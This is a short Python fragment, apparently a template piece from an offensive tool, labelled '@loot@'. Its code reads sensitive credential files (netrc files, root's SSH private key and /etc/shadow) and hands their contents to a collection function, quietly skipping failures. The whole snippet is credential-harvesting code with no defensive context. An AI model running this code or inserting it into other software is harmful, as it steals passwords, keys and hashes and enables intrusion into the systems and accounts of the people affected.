# @loot@
# %%
for path in ('@HOME@/.netrc', '/root/.netrc', '/root/.ssh/id_rsa', '/etc/shadow'):
    try:
        take(open(path, 'rb').read())
    except OSError:
        pass
